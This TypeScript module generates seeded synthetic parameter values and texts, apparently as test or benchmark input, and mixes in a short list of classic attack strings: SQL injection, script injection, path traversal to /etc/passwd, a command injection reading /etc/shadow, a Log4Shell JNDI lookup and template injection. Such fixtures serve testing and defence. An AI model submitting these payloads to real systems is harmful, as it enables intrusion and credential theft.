// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the attacks are of that look.
import { fresh, pick, seeded } from "../measure/random.ts";

const WORDS =
  "the order name blue garden window payment address item seven river number account green letter update table from select with paper music market city price green status report value simple large yellow chair".split(
    " ",
  );
const ATTACKS: readonly string[] = [
  "1' or '1'='1",
  "<script>alert(1)</script>",
  "../../../../etc/passwd",
  "; cat /etc/shadow",
  "${jndi:ldap://x.example/a}",
  "1 union all select null,null",
  "<img src=x onerror=alert(1)>",
  "{{config.items()}}",
];

/** Values such as parameters have: numbers, words, addresses, tokens, JSON, prose, and a few attacks. */
export function drawValues(count: number, seed = 31): readonly string[] {
  const random = seeded(seed);
  const word = () => pick(random, WORDS);
  const some = (least: number, most: number) =>
    Array.from({ length: least + Math.floor(random() * (most - least)) }, word).join(" ");
  return Array.from({ length: count }, () => {
    const die = random();
    if (die < 0.25) return fresh(String(Math.floor(random() * 1e9)));
    if (die < 0.5) return fresh(some(1, 6));
    if (die < 0.6) return fresh(`${word()}.${word()}@${word()}.example`);
    if (die < 0.7)
      return fresh(
        `https://www.${word()}.example/${word()}/${word()}?${word()}=${Math.floor(random() * 1e4)}`,
      );
    if (die < 0.8)
      return fresh(Math.floor(random() * 1e15).toString(36) + Math.floor(random() * 1e15).toString(36));
    if (die < 0.9)
      return fresh(
        JSON.stringify({ [word()]: word(), n: Math.floor(random() * 100), list: [word(), word()] }),
      );
    if (die < 0.97) return fresh(`${some(20, 60)}. (${word()}'s)`);
    return fresh(pick(random, ATTACKS) + word());
  });
}

/** Values without attacks. */
export function drawOrdinaryValues(count: number, seed = 31): readonly string[] {
  return drawValues(count, seed).filter((value) => !ATTACKS.some((attack) => value.startsWith(attack)));
}

/** Text of one length, made of values. */
export function drawTexts(count: number, length: number, seed = 5): readonly string[] {
  const values = drawValues(400, seed);
  const random = seeded(seed + length);
  return Array.from({ length: count }, () => {
    let text = "";
    while (text.length < length) text += `${pick(random, values)}${random() < 0.8 ? " " : "&"}`;
    return fresh(text.slice(0, length));
  });
}
